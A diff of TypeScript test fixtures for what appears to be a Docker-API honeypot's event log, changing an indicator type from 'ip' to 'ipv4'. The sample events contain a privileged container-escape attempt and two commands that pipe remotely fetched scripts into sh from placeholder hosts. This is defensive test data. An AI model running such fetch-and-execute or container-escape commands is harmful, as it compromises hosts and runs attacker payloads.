@@ -85,7 +85,7 @@ export function sampleWrites(): Write[] {
         ev('trap.container.create_attempted', '2026-11-01T10:00:03.000Z', { ...a, image: 'alpine', binds: ['/:/mnt'], privileged: true }),
         ev('trap.command.observed', '2026-11-01T10:00:03.100Z', { ...a, command: 'chroot /mnt sh -c curl -s http://198.51.100.7/x.sh | sh', field: 'Cmd', decoded: false }),
         ev('trap.indicator.extracted', '2026-11-01T10:00:03.200Z', { ...a, type: 'url', value: 'http://198.51.100.7/x.sh', decoded: false }),
-        ev('trap.indicator.extracted', '2026-11-01T10:00:03.300Z', { ...a, type: 'ip', value: '198.51.100.7', decoded: false }),
+        ev('trap.indicator.extracted', '2026-11-01T10:00:03.300Z', { ...a, type: 'ipv4', value: '198.51.100.7', decoded: false }),
         ev('trap.session.closed', '2026-11-01T10:05:00.000Z', { ...a, reason: 'idle', requests: 4 }),
         ev('trap.session.opened', '2026-11-01T13:00:00.000Z', { ...base, session: 'sess-b', src_ip: '127.0.0.77', protocol: 'docker-api' }),
         ev('trap.command.observed', '2026-11-01T13:00:01.000Z', { ...base, session: 'sess-b', src_ip: '127.0.0.77', command: 'wget -q -O- http://203.0.113.9/m | sh', decoded: true }),
